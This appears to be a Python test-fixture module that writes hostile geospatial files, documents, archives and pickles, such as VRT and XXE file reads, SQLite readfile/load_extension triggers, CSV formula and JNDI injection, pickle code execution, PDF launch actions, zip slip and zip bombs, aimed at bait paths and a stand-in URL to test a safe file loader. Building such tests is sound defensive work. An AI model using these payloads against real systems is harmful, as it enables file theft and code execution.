"""Layers, tables, documents and weights that reach for files of others and for hosts, each with the nearest that does not."""

from __future__ import annotations

import json
import os
import pickle
import shutil
import sqlite3
import struct
from collections.abc import Callable
from contextlib import closing
from pathlib import Path

from hostile_bait import NAMES, PEOPLE, TEXT, Bait, FileCase, features, write_layer, write_raster

Write = Callable[[Path, Bait], Path]


def layer(name: str) -> Callable[[Path], Path]:
    """Return a writer of a harmless layer."""

    def write(folder: Path) -> Path:
        return write_layer(folder / name)

    write.__name__ = name
    return write


geojson, gpkg, shp, fgb, parquet = (layer(f"plain.{suffix}") for suffix in ("geojson", "gpkg", "shp", "fgb", "parquet"))


def csv(folder: Path) -> Path:
    path = folder / "plain.csv"
    path.write_text(
        "name,people,lon,lat\n" + "".join(f"{name},{people},3.0{people},45.0\n" for name, people in zip(NAMES, PEOPLE, strict=True))
    )
    return path


def text(name: str, content: Callable[[Bait], str]) -> Write:
    """Return a writer of a text under any name."""

    def write(folder: Path, bait: Bait) -> Path:
        path = folder / name
        path.write_text(content(bait))
        return path

    return write


# --- descriptions of data elsewhere


def ogr_vrt(source: str, sql: str = "") -> str:
    chosen = f"<SrcSQL>{sql}</SrcSQL>" if sql else "<SrcLayer>secret</SrcLayer>"
    return f'<OGRVRTDataSource><OGRVRTLayer name="x"><SrcDataSource relativeToVRT="0">{source}</SrcDataSource>{chosen}</OGRVRTLayer></OGRVRTDataSource>'


def over_file(bait: Bait) -> str:
    return ogr_vrt(str(bait.file("secret.geojson")))


def over_table(bait: Bait) -> str:
    return ogr_vrt(str(bait.file("secret.csv")))


def over_address(bait: Bait) -> str:
    return ogr_vrt(f"/vsicurl/{bait.url}secret.geojson")


def over_question(bait: Bait) -> str:
    return ogr_vrt(str(bait.file("secret.gpkg")), "select * from secret")


def union_of_files(bait: Bait) -> str:
    return (
        over_file(bait)
        .replace("<OGRVRTLayer", '<OGRVRTUnionLayer name="u"><OGRVRTLayer')
        .replace("</OGRVRTLayer>", "</OGRVRTLayer></OGRVRTUnionLayer>")
    )


def command(bait: Bait) -> str:
    return json.dumps(
        {
            "type": "gdal_streamed_alg",
            "command_line": f"gdal vector reproject --dst-crs=EPSG:4326 {bait.file('secret.geojson')} --of stream --output-layer x -",
        }
    )


def pipeline(source: str) -> dict[str, object]:
    return {"type": "gdal_streamed_alg", "command_line": f"gdal vector pipeline ! read {source} ! reproject --dst-crs=EPSG:4326"}


def pipeline_over_file(bait: Bait) -> str:
    return json.dumps(pipeline(str(bait.file("secret.geojson"))))


def pipeline_over_address(bait: Bait) -> str:
    return json.dumps(pipeline(f"/vsicurl/{bait.url}secret.geojson"))


def pipeline_in_features(bait: Bait) -> str:
    return json.dumps(pipeline(str(bait.file("secret.geojson")))).removesuffix("}") + ', "type": "FeatureCollection", "features": []}'


def pipeline_far_down(bait: Bait) -> str:
    return "{" + " " * 70_000 + json.dumps(pipeline(str(bait.file("secret.geojson"))))[1:]


def pipeline_after_a_feature(bait: Bait) -> str:
    inner = json.dumps(pipeline(str(bait.file("secret.geojson"))))[1:]
    return '{"about": {"type": "Feature"}, ' + inner


def crs_link(bait: Bait) -> str:
    return json.dumps({"crs": {"type": "link", "properties": {"href": f"{bait.url}crs.wkt", "type": "ogcwkt"}}, **features()})


def crs_url(bait: Bait) -> str:
    return json.dumps({"crs": {"type": "url", "properties": {"url": f"{bait.url}crs.wkt"}}, **features()})


def crs_name(bait: Bait) -> str:
    return json.dumps({"crs": {"type": "name", "properties": {"name": f"{bait.url}crs.wkt"}}, **features()})


def crs_file(bait: Bait) -> str:
    return json.dumps({"crs": {"type": "name", "properties": {"name": str(bait.file("secret.wkt"))}}, **features()})


def json_fg(bait: Bait) -> str:
    return json.dumps(
        {"conformsTo": ["http://www.opengis.net/spec/json-fg-1/0.2/conf/core"], "coordRefSys": f"{bait.url}crs.wkt", **features()}
    )


def wfs(bait: Bait) -> str:
    return f"<OGRWFSDataSource><URL>{bait.url}wfs</URL></OGRWFSDataSource>"


def csw(bait: Bait) -> str:
    return f"<OGRCSWDataSource><URL>{bait.url}csw</URL></OGRCSWDataSource>"


def wfs_capabilities(bait: Bait) -> str:
    return f'<?xml version="1.0"?><WFS_Capabilities version="1.0.0"><Capability><Request><GetFeature><DCPType><HTTP><Get onlineResource="{bait.url}wfs?"/></HTTP></DCPType></GetFeature></Request></Capability><FeatureTypeList><FeatureType><Name>a</Name></FeatureType></FeatureTypeList></WFS_Capabilities>'


def gml(bait: Bait) -> str:
    return (
        '<?xml version="1.0"?><ogr:FeatureCollection xmlns:ogr="http://ogr.maptools.org/" xmlns:gml="http://www.opengis.net/gml" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"'
        f' xsi:schemaLocation="http://ogr.maptools.org/ {bait.url}x.xsd"><gml:featureMember><ogr:x><ogr:name>a</ogr:name><ogr:geometryProperty><gml:Point><gml:coordinates>3,45</gml:coordinates></gml:Point></ogr:geometryProperty></ogr:x></gml:featureMember></ogr:FeatureCollection>'
    )


def gml_with_entity(bait: Bait) -> str:
    return (
        gml(bait)
        .replace("<ogr:FeatureCollection", f'<!DOCTYPE x [<!ENTITY e SYSTEM "file://{bait.file("secret.txt")}">]><ogr:FeatureCollection', 1)
        .replace("<ogr:name>a<", "<ogr:name>&e;<")
    )


# --- GeoPackages


def changed(statements: Callable[[Bait], str]) -> Write:
    """Return a writer of a GeoPackage into which something was written by hand."""

    def write(folder: Path, bait: Bait) -> Path:
        path = write_layer(folder / "x.gpkg")
        with closing(sqlite3.connect(path, isolation_level=None)) as connection:
            connection.executescript(statements(bait))
        return path

    return write


def view(select: Callable[[Bait], str]) -> Write:
    """Return a writer of a GeoPackage with a view that is registered as a layer."""
    return changed(
        lambda bait: (
            f"CREATE VIEW v AS SELECT {select(bait)} AS found; "
            "INSERT INTO gpkg_contents (table_name, data_type, identifier) VALUES ('v', 'attributes', 'v');"
        )
    )


def virtual_table(definition: Callable[[Bait], str]) -> Write:
    """Return a writer of a GeoPackage with a virtual table, which SQLite makes when it is first looked at."""

    def statements(bait: Bait) -> str:
        sql = f"CREATE VIRTUAL TABLE w USING {definition(bait)}".replace("'", "''")
        return (
            "PRAGMA writable_schema = ON; INSERT INTO sqlite_master (type, name, tbl_name, rootpage, sql) "
            f"VALUES ('table', 'w', 'w', 0, '{sql}'); PRAGMA writable_schema = OFF; "
            "INSERT INTO gpkg_contents (table_name, data_type, identifier) VALUES ('w', 'attributes', 'w');"
        )

    return changed(statements)


def reference_system(bait: Bait) -> str:
    return f"UPDATE gpkg_spatial_ref_sys SET definition = '{bait.url}crs.wkt' WHERE srs_id = 4326; ALTER TABLE gpkg_spatial_ref_sys ADD definition_12_063 TEXT; UPDATE gpkg_spatial_ref_sys SET definition_12_063 = '{bait.url}crs.wkt', organization = '{bait.url}', organization_coordsys_id = 99;"


def triggers(bait: Bait) -> str:
    return f"CREATE TABLE log (what TEXT); CREATE TRIGGER t AFTER INSERT ON x BEGIN INSERT INTO log SELECT readfile('{bait.file('secret.txt')}'); END; CREATE TRIGGER u AFTER UPDATE ON gpkg_contents BEGIN SELECT load_extension('{bait.file('secret.raw')}'); END;"


def wal_mode(folder: Path, _bait: Bait) -> Path:
    path = write_layer(folder / "x.gpkg")
    with closing(sqlite3.connect(path)) as connection:
        connection.execute("PRAGMA journal_mode = WAL")
    return path


def journal(folder: Path, bait: Bait) -> Path:
    """Write a GeoPackage whose journal says that a file elsewhere may be removed once it was rolled back."""
    path = write_layer(folder / "x.gpkg")
    victim = str(bait.file("victim")).encode()
    bait.file("victim").write_bytes(str(folder / "other-journal").encode() + b"\0")
    page = 4096
    head = b"\xd9\xd5\x05\xf9\x20\xa1\x63\xd7" + struct.pack(">IIIII", 0, 1, path.stat().st_size // page, 512, page)
    end = (
        struct.pack(">I", 1 + (1 << 30) // page)
        + victim
        + struct.pack(">II", len(victim), sum(victim) & 0xFFFFFFFF)
        + b"\xd9\xd5\x05\xf9\x20\xa1\x63\xd7"
    )
    (folder / "x.gpkg-journal").write_bytes(head.ljust(512, b"\0") + end)
    return path


# --- Shapefiles and tables


def shapefile(change: Callable[[Path, Bait], None]) -> Write:
    """Return a writer of a Shapefile of which one part was changed."""

    def write(folder: Path, bait: Bait) -> Path:
        path = write_layer(folder / "x.shp")
        change(path, bait)
        return path

    return write


def no_index(path: Path, _bait: Bait) -> None:
    path.with_suffix(".shx").unlink()


def crs_elsewhere(path: Path, bait: Bait) -> None:
    path.with_suffix(".prj").write_text(f"{bait.url}crs.wkt")


def crs_in_a_file(path: Path, bait: Bait) -> None:
    path.with_suffix(".prj").unlink()
    path.with_suffix(".prj").symlink_to(bait.file("secret.wkt"))


def encoding_elsewhere(path: Path, bait: Bait) -> None:
    path.with_suffix(".cpg").write_text(f"../../..{bait.file('secret.txt')}\n{bait.url}")


def notes_elsewhere(path: Path, bait: Bait) -> None:
    path.with_suffix(".shp.xml").write_text(f'<!DOCTYPE x [<!ENTITY e SYSTEM "{bait.url}x">]><metadata>&e;</metadata>')
    path.with_suffix(".qix").write_bytes(b"SQT\x01\x01" + b"\xff" * 400)
    path.with_suffix(".vrt").write_text(over_file(bait))


def attributes_of_others(path: Path, bait: Bait) -> None:
    path.with_suffix(".dbf").unlink()
    path.with_suffix(".dbf").symlink_to(bait.file("secret.dbf"))


def linked(name: str) -> Write:
    """Return a writer of a link to a file of the bait."""

    def write(folder: Path, bait: Bait) -> Path:
        path = folder / f"x{Path(name).suffix}"
        path.symlink_to(bait.file(name))
        return path

    return write


def table_with_guests(folder: Path, bait: Bait) -> Path:
    path = csv(folder)
    for suffix, content in ((".vrt", over_table(bait)), (".csvt", "WKT,Integer\n"), (".prj", f"{bait.url}crs.wkt")):
        path.with_suffix(suffix).write_text(content)
    return path


def formulas(bait: Bait) -> str:
    return f'name,people,lon,lat\n"=HYPERLINK(""{bait.url}"",1)",1,3,45\n"=cmd|\' /C touch {bait.file("taken")}\'!A0",2,3,45\n"@SUM(WEBSERVICE(""{bait.url}""))",3,3,45\n'


def template(bait: Bait) -> str:
    return f"name,people,lon,lat\n{{{{open('{bait.file('secret.txt')}').read()}}}},1,3,45\n${{jndi:{bait.url}}},2,3,45\n%(people)s{{0.__class__}},3,3,45\n"


def absurd_header(folder: Path, _bait: Bait) -> Path:
    path = folder / "x.fgb"
    path.write_bytes(b"fgb\x03fgb\x00" + struct.pack("<I", 0xFFFFFFF0) + bytes(4096))
    return path


def pickled_columns(folder: Path, bait: Bait) -> Path:
    """Write a table whose column type is a program in a pickle."""
    import pyarrow as pa
    import pyarrow.parquet

    notes = {b"ARROW:extension:name": b"arrow.py_extension_type", b"ARROW:extension:metadata": _program(bait)}
    schema = pa.schema(
        [pa.field("name", pa.string()), pa.field("people", pa.int64(), metadata=notes)], metadata={b"pandas": _program(bait)}
    )
    path = folder / "x.parquet"
    pyarrow.parquet.write_table(pa.table({"name": list(NAMES), "people": list(PEOPLE)}, schema=schema), path)
    return path


class _Opens:
    """Pickles as a call that makes a file."""

    def __init__(self, path: Path) -> None:
        self.path = path

    def __reduce__(self) -> tuple[Callable[..., object], tuple[str, str]]:
        return open, (str(self.path), "w")


def _program(bait: Bait) -> bytes:
    return pickle.dumps(_Opens(bait.file("taken")), protocol=0)


def columns_elsewhere(folder: Path, bait: Bait) -> Path:
    """Write a table whose columns lie, as it says, in another file."""
    import pyarrow.parquet

    metadata = pyarrow.parquet.read_metadata(bait.file("secret.parquet"))
    metadata.set_file_path(os.path.relpath(bait.file("secret.parquet"), folder))
    path = folder / "x.parquet"
    metadata.write_metadata_file(path)
    return path


def parquet_crs(folder: Path, bait: Bait) -> Path:
    import pyarrow.parquet

    path = write_layer(folder / "x.parquet")
    table = pyarrow.parquet.read_table(path)
    geo = json.loads(table.schema.metadata[b"geo"])
    geo["columns"]["geometry"]["crs"] = f"{bait.url}crs.json"
    pyarrow.parquet.write_table(table.replace_schema_metadata({b"geo": json.dumps(geo).encode()}), path)
    return path


def deep(_bait: Bait) -> str:
    return '{"type": "FeatureCollection", "features": ' + "[" * 200_000


def wide(_bait: Bait) -> str:
    row = {"type": "Feature", "geometry": {"type": "Point", "coordinates": [3, 45]}, "properties": {f"c{n}": 1 for n in range(30_000)}}
    return json.dumps({"type": "FeatureCollection", "features": [row]})


# --- documents and weights


def page(bait: Bait) -> str:
    return f'<html><body><h1>Notes</h1><img src="{bait.url}x.png"><script src="{bait.url}x.js"></script><iframe src="file://{bait.file("secret.txt")}"></iframe><link rel="stylesheet" href="{bait.url}x.css"><object data="{bait.file("secret.txt")}"></object>Dull.</body></html>'


def entities(bait: Bait) -> str:
    return f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file://{bait.file("secret.txt")}"><!ENTITY % r SYSTEM "{bait.url}x.dtd"> %r;]><html><body><p>&e;</p></body></html>'


def markdown(bait: Bait) -> str:
    return f'# Notes\n\n![x]({bait.url}x.png) ![y](file://{bait.file("secret.txt")})\n\n<!--#include file="{bait.file("secret.txt")}" -->\n\n[z]: {bait.file("secret.txt")}\n'


def restructured(bait: Bait) -> str:
    return f"Notes\n=====\n\n.. include:: {bait.file('secret.txt')}\n\n.. raw:: html\n   :url: {bait.url}x\n\n.. csv-table::\n   :file: {bait.file('secret.csv')}\n"


def pdf(more: Callable[[Bait], str]) -> Write:
    """Return a writer of a PDF of one page, with something hostile in its catalogue or in its page."""

    def write(folder: Path, bait: Bait) -> Path:
        catalogue, _, contents = more(bait).partition("|")
        stream = b"BT /F1 12 Tf 20 100 Td (Notes) Tj ET"
        objects = [
            f"<< /Type /Catalog /Pages 2 0 R {catalogue} >>".encode(),
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>",
            f"<< /Length {len(stream)} {contents} >>\nstream\n".encode() + stream + b"\nendstream",
            b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        ]
        body, places = b"%PDF-1.4\n", []
        for number, one in enumerate(objects, 1):
            places.append(len(body))
            body += f"{number} 0 obj\n".encode() + one + b"\nendobj\n"
        table = "".join(f"{place:010d} 00000 n \n" for place in places)
        path = folder / "x.pdf"
        path.write_bytes(
            body + f"xref\n0 6\n0000000000 65535 f \n{table}trailer << /Size 6 /Root 1 0 R >>\nstartxref\n{len(body)}\n%%EOF".encode()
        )
        return path

    return write


def pdf_actions(bait: Bait) -> str:
    return f"/OpenAction << /S /Launch /F ({bait.file('secret.txt')}) >> /AA << /O << /S /URI /URI ({bait.url}) >> >> /Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (app.launchURL('{bait.url}')) >>] >> >>"


def pdf_elsewhere(bait: Bait) -> str:
    return f"|/F << /Type /Filespec /FS /URL /F ({bait.url}x) >>"


def pdf_file(bait: Bait) -> str:
    return f"|/F ({bait.file('secret.txt')})"


def notes(name: str) -> Callable[[Path], Path]:
    """Return a writer of a harmless document."""

    def write(folder: Path) -> Path:
        path = folder / name
        path.write_text("# Notes\n\nDull.\n")
        return path

    write.__name__ = name
    return write


def plain_pdf(folder: Path) -> Path:
    return pdf(lambda _: "")(folder, Bait(folder, ""))


def pickled_weights(name: str) -> Write:
    def write(folder: Path, bait: Bait) -> Path:
        path = folder / name
        path.write_bytes(_program(bait))
        return path

    return write


# --- archives


def archive(name: str, kind: str) -> Write:
    """Return a writer of an archive that holds a link and a file with a name that leads out of it."""

    def write(folder: Path, bait: Bait) -> Path:
        inside = folder / "inside"
        inside.mkdir()
        write_raster(inside / "own.tif")
        (inside / "link.tif").symlink_to(bait.file("secret.tif"))
        made = Path(shutil.make_archive(str(folder / "made"), kind, inside))
        shutil.rmtree(inside)
        return made.rename(folder / name)

    return write


def slip(name: str) -> Write:
    import zipfile

    def write(folder: Path, bait: Bait) -> Path:
        path = folder / name
        with zipfile.ZipFile(path, "w") as made:
            for member in ("../taken.tif", str(bait.file("taken.tif")), "doc.kml", "own.shp", "own.geojson"):
                made.writestr(member, json.dumps(features((TEXT[::-1],) * 3)))
        return path

    return write


def layer_zip_bomb(folder: Path, _bait: Bait) -> Path:
    import zipfile

    path = folder / "x.gpkg"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as made:
        made.writestr("x.gpkg", bytes(200_000_000))
    return path


def squeezed(folder: Path, _bait: Bait) -> Path:
    import gzip

    path = folder / "x.csv"
    path.write_bytes(gzip.compress(b"name,people\n" + b"a,1\n" * 5_000_000))
    return path


CASES: tuple[FileCase, ...] = (
    FileCase("a virtual layer named as GeoJSON", text("x.geojson", over_file), geojson),
    FileCase("a virtual layer named as a GeoPackage", text("x.gpkg", over_file), gpkg),
    FileCase("a virtual layer named as a Shapefile", text("x.shp", over_file), shp),
    FileCase("a virtual layer named as a FlatGeobuf", text("x.fgb", over_file), fgb),
    FileCase("a virtual layer named as a table", text("x.csv", over_table), csv),
    FileCase("a virtual layer named as a table of dBASE", text("x.dbf", over_table), shp),
    FileCase("a virtual layer over an address", text("x.geojson", over_address), geojson),
    FileCase("a virtual layer over a question", text("x.json", over_question), geojson),
    FileCase("a union of virtual layers", text("x.geojsonl", union_of_files), geojson),
    FileCase("a command named as GeoJSON", text("x.geojson", command), geojson),
    FileCase("a pipeline named as GeoJSON", text("x.geojson", pipeline_over_file), geojson),
    FileCase("a pipeline over an address", text("x.json", pipeline_over_address), geojson),
    FileCase("a pipeline that is also features", text("x.geojson", pipeline_in_features), geojson),
    FileCase("a pipeline far down", text("x.geojson", pipeline_far_down), geojson),
    FileCase("a pipeline after a feature", text("x.geojson", pipeline_after_a_feature), geojson),
    FileCase("features whose CRS is a link", text("x.geojson", crs_link), geojson),
    FileCase("features whose CRS is an address", text("x.geojson", crs_url), geojson),
    FileCase("features whose CRS is named by an address", text("x.geojson", crs_name), geojson),
    FileCase("features whose CRS is named by a file", text("x.geojson", crs_file), geojson),
    FileCase("features after JSON-FG with a CRS elsewhere", text("x.json", json_fg), geojson),
    FileCase("a feature service named as GeoJSON", text("x.geojson", wfs), geojson),
    FileCase("a catalogue service named as a table", text("x.csv", csw), csv),
    FileCase("capabilities of a feature service", text("x.json", wfs_capabilities), geojson),
    FileCase("GML with a schema elsewhere", text("x.geojson", gml), geojson),
    FileCase("GML under its own name", text("x.gml", gml), geojson),
    FileCase("GML with an entity", text("x.gml", gml_with_entity), geojson),
    FileCase(
        "a view that reads pixels of a file",
        view(lambda bait: f"gdal_get_pixel_value('{bait.file('secret.tif')}', 1, 'pixel', 1, 1)"),
        gpkg,
    ),
    FileCase("a view that reads a file", view(lambda bait: f"readfile('{bait.file('secret.txt')}')"), gpkg),
    FileCase("a view that loads a program", view(lambda bait: f"load_extension('{bait.file('secret.raw')}')"), gpkg),
    FileCase("a view that opens a file", view(lambda bait: f"ogr_datasource_load_layers('{bait.file('secret.gpkg')}')"), gpkg),
    FileCase("a view that asks a geocoder", view(lambda bait: f"ogr_geocode('{bait.url}')"), gpkg),
    FileCase("a view that attaches and writes", view(lambda bait: f"writefile('{bait.file('taken')}', 'x')"), gpkg),
    FileCase("a virtual table over a file", virtual_table(lambda bait: f"VirtualOGR('{bait.file('secret.geojson')}')"), gpkg),
    FileCase("a virtual table over an address", virtual_table(lambda bait: f"VirtualOGR('/vsicurl/{bait.url}secret.geojson')"), gpkg),
    FileCase(
        "a virtual table over text",
        virtual_table(lambda bait: f"VirtualText('{bait.file('secret.csv')}', 'UTF-8', 1, POINT, DOUBLEQUOTE, ',')"),
        gpkg,
    ),
    FileCase("a virtual table over a Shapefile", virtual_table(lambda bait: f"VirtualShape('{bait.file('secret')}', 'UTF-8', 4326)"), gpkg),
    FileCase("a GeoPackage whose CRS stands elsewhere", changed(reference_system), gpkg),
    FileCase("a GeoPackage with triggers", changed(triggers), gpkg),
    FileCase("a GeoPackage that wants a log beside it", wal_mode, gpkg),
    FileCase("a GeoPackage with a journal that removes files", journal, gpkg),
    FileCase("a Shapefile without its index", shapefile(no_index), shp),
    FileCase("a Shapefile whose CRS is an address", shapefile(crs_elsewhere), shp),
    FileCase("a Shapefile whose encoding is a path", shapefile(encoding_elsewhere), shp),
    FileCase("a Shapefile with hostile notes", shapefile(notes_elsewhere), shp),
    FileCase("a table with a virtual layer beside it", table_with_guests, csv),
    FileCase("a table of formulas", text("x.csv", formulas), csv),
    FileCase("a table of templates", text("x.csv", template), csv),
    FileCase("a FlatGeobuf of absurd size", absurd_header, fgb),
    FileCase("columns that are a program", pickled_columns, parquet),
    FileCase("columns that lie elsewhere", columns_elsewhere, parquet),
    FileCase("a GeoParquet whose CRS is an address", parquet_crs, parquet),
    FileCase("features nested without end", text("x.geojson", deep), geojson),
)
"""Layers and tables."""

DOCUMENTS: tuple[FileCase, ...] = (
    FileCase("a page that loads from elsewhere", text("x.html", page), notes("plain.html")),
    FileCase("a page with entities", text("x.htm", entities), notes("plain.html")),
    FileCase("Markdown with images elsewhere", text("x.md", markdown), notes("plain.md")),
    FileCase("a text that includes files", text("x.rst", restructured), notes("plain.rst")),
    FileCase("a PDF that acts", pdf(pdf_actions), plain_pdf),
    FileCase("a PDF whose content is at an address", pdf(pdf_elsewhere), plain_pdf),
    FileCase("a PDF whose content is a file", pdf(pdf_file), plain_pdf),
)
"""Documents, and what they would load where they are shown."""

ARCHIVES: tuple[FileCase, ...] = (
    FileCase("a zip with a link", archive("x.zip", "zip"), geojson),
    FileCase("a tar with a link", archive("x.tar", "tar"), geojson),
    FileCase("a packed tar named as a GeoTIFF", archive("x.tif", "gztar"), geojson),
    FileCase("a zip that leads out of its folder", slip("x.zip"), geojson),
    FileCase("a zip named as a GeoPackage", slip("x.gpkg"), gpkg),
    FileCase("a zip named as GeoJSON", slip("x.geojson"), geojson),
    FileCase("a zip named as a table", slip("x.csv"), csv),
    FileCase("a zipped Shapefile", slip("x.shz"), shp),
    FileCase("a KMZ", slip("x.kmz"), geojson),
    FileCase("a zip that unpacks without end, named as a GeoPackage", layer_zip_bomb, gpkg),
    FileCase("a packed table without its suffix", squeezed, csv),
    FileCase("a pickle named as weights", pickled_weights("x.safetensors"), geojson),
    FileCase("weights in a pickle", pickled_weights("x.pt"), geojson),
)
"""Archives and pickles, which are never entered."""

LINKED: tuple[FileCase, ...] = (
    FileCase("a link to a layer elsewhere", linked("secret.geojson"), geojson),
    FileCase("a link to a table elsewhere", linked("secret.csv"), csv),
    FileCase("a link to a GeoPackage elsewhere", linked("secret.gpkg"), gpkg),
    FileCase("a Shapefile with attributes of others", shapefile(attributes_of_others), shp),
    FileCase("a Shapefile whose CRS is a link", shapefile(crs_in_a_file), shp),
)
"""Links that lead out of the folders from which files may be read."""

WIDE: tuple[FileCase, ...] = (FileCase("features of 30,000 columns", text("x.geojson", wide), geojson),)
"""Small files that ask for more memory or time than there is."""
